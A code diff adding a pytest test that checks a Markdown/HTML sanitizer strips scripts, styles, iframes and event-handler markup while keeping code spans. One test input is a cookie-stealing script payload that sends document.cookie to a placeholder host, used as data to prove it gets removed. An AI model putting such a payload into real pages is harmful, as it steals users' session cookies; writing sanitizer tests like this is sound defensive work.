@@ -52,6 +52,21 @@ def test_raw_html_links_and_images_are_removed():
     )
 
 
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Fast <script>fetch('//e.invalid?c='+document.cookie)</script>queues.", "Fast queues."),
+        ('A <iframe src="https://e.invalid/f"></iframe>queue.', "A queue."),
+        ("<STYLE>body{display:none}</STYLE>Redis.", "Redis."),
+        ('<div onclick="x()">Workers</div> <b>ack</b><!-- hidden --> jobs.', "Workers ack jobs."),
+        ("Use List<String> and a < b > c here.", "Use List<String> and a < b > c here."),
+        ("Inline `<script>` stays.", "Inline `<script>` stays."),
+    ],
+)
+def test_raw_html_is_stripped_with_scripts_styles_and_frames_whole(text, expected):
+    assert strip(text) == expected
+
+
 def test_code_spans_and_code_blocks_stay_exactly_as_written():
     text = "Use `[x](http://code.invalid)` here.\n\n```\n![img](http://fenced.invalid/i.png)\n```"
     assert strip(text) == text
